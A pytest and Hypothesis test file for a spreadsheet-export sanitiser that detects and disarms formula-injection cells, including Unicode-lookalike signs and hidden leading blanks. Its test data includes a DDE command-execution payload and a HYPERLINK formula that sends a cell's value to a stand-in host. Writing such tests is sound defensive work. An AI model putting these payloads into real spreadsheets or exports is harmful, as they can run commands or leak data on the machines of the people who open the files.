"""Texts that a spreadsheet would run."""

import pytest
from hypothesis import given
from hypothesis import strategies as some

from app.exporting.formulas import MARK, disarm, is_formula

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"more")',
    "=WEBSERVICE(A1)",
    "+\u200b1",
]
BLANKS = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "  \t ",
    "\u00a0",
    "\u3000",
    "\u2009",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\x1f",
    "\x7f",
    "'",
]
FORMS = {"=": "＝﹦⁼₌", "+": "＋﹢⁺₊﬩", "-": "－﹣", "@": "＠﹫"}
HARMLESS = ["", " ", "Rain", "'twas rain", "a=1", "1-1", "– so he said", "— no", "“=1”", "(=1)", "3", "…", "€ 3", ">= 5", "~3"]
SIGNS = ["=", "+", "-", "@"]


class TestIsFormula:
    @pytest.mark.parametrize("blank", BLANKS)
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_a_formula_is_one_behind_any_blank(self, formula: str, blank: str) -> None:
        assert is_formula(blank + formula)

    @pytest.mark.parametrize("sign", "".join(FORMS.values()))
    def test_a_sign_of_another_width_counts_as_the_sign(self, sign: str) -> None:
        assert is_formula(f"{sign}1+1")
        assert is_formula(f" {sign}1+1")

    @pytest.mark.parametrize("text", ["\tRain", "\rRain", "\nRain", "\r\nRain"])
    def test_a_cell_that_begins_with_a_tab_or_a_line_end_counts(self, text: str) -> None:
        assert is_formula(text)

    @pytest.mark.parametrize("text", HARMLESS + SIGNS)
    def test_what_no_spreadsheet_runs_is_none(self, text: str) -> None:
        assert not is_formula(text)
        assert disarm(text) == text


class TestDisarm:
    @given(some.text(some.sampled_from(["'", "=", "-", "＠", " ", "\t", "\n", "a", "1", '"', ";"]), max_size=6))
    def test_nothing_runs_and_the_text_can_be_had_again(self, text: str) -> None:
        cell = disarm(text)
        assert cell.startswith(MARK) or not is_formula(cell)
        assert (cell[1:] if cell.startswith(MARK) and is_formula(cell[1:]) else cell) == text
